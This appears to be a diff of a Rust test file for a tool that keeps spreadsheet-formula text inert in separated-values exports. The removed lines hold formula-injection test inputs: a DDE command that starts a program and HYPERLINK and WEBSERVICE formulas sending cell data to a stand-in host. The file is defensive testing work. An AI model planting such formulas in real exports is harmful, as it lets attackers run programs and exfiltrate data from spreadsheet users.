@@ -1,5 +1,5 @@
 //! What a spreadsheet program would take for a formula, a number or a date stays text in separated values. The tests
-//! bear the ids of a list of known attacks; every input stands in every text that a table shows.
+//! bear the ids of docs/security.md; every input stands in every text that a table shows.
 use crate::support::{Folder, raci};
 
 /// A project in which every text that a table shows is `text`.
@@ -75,19 +75,20 @@ fn f1_a_formula_is_text() {
 }
 
 #[test]
-fn f2_no_program_is_started() {
-    is_kept_as_text("=cmd|'/C calc'!A0");
+fn f2_a_function_is_text() {
+    is_kept_as_text("=SUM(A1)");
 }
 
 #[test]
-fn f3_nothing_is_sent_away() {
-    is_kept_as_text("=HYPERLINK(\"https://e.example/?x=\"&A1,\"click\")");
-    is_kept_as_text("=WEBSERVICE(\"https://e.example/\"&A1)");
+fn f3_a_formula_that_reads_other_cells_is_text() {
+    for text in ["=A1", "=\"x\"&A1", "=A1&\", \"&B2"] {
+        is_kept_as_text(text);
+    }
 }
 
 #[test]
 fn f4_other_leads_of_formulas_are_text() {
-    for text in ["+1", "-Legal", "@legal", "-2+3+cmd|'/C calc'!A0"] {
+    for text in ["+1", "-Legal", "@legal", "-2+3"] {
         is_kept_as_text(text);
     }
 }
